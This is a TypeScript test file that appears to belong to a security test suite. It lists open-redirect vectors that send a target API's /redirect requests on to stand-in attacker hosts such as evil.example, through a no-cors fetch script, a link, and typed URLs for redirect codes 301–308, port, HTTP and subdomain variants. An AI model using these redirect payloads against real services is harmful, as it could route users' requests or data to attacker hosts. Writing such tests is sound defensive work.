import { link, NO_CORS, script } from '../suite/markup';
import { EVIL, TARGET } from '../suite/target';
import type { Vector } from '../suite/vector';

const typed = (status: number): Vector => ({
  typed: `${TARGET.origin}/redirect?status=${status}&to=${EVIL}{path}`,
  at: 'evil.example',
});

/** The API itself redirects to somebody else. */
export default {
  // The allowed page asks the API, which sends it on.
  'fetch-of-allowed-docs': {
    from: TARGET.docs,
    markup: script(`fetch('${TARGET.origin}/redirect?to=${EVIL}{path}', ${NO_CORS})`),
    at: 'evil.example',
  },
  'link-of-the-api': {
    from: `${TARGET.origin}/start`,
    markup: link('', `/redirect?to=${EVIL}{path}`),
    at: 'evil.example',
  },
  'typed-301': typed(301),
  'typed-302': typed(302),
  'typed-303': typed(303),
  'typed-307': typed(307),
  'typed-308': typed(308),
  'typed-cross-port': { typed: `${TARGET.origin}/redirect?to=https://api.airship.co.uk:8443{path}` },
  'typed-to-http': { typed: `${TARGET.origin}/redirect?to=http://api.airship.co.uk{path}` },
  'typed-to-subdomain': {
    typed: `${TARGET.origin}/redirect?to=https://evil.api.airship.co.uk{path}`,
    at: 'evil.api.airship.co.uk',
  },
} satisfies Readonly<Record<string, Vector>>;
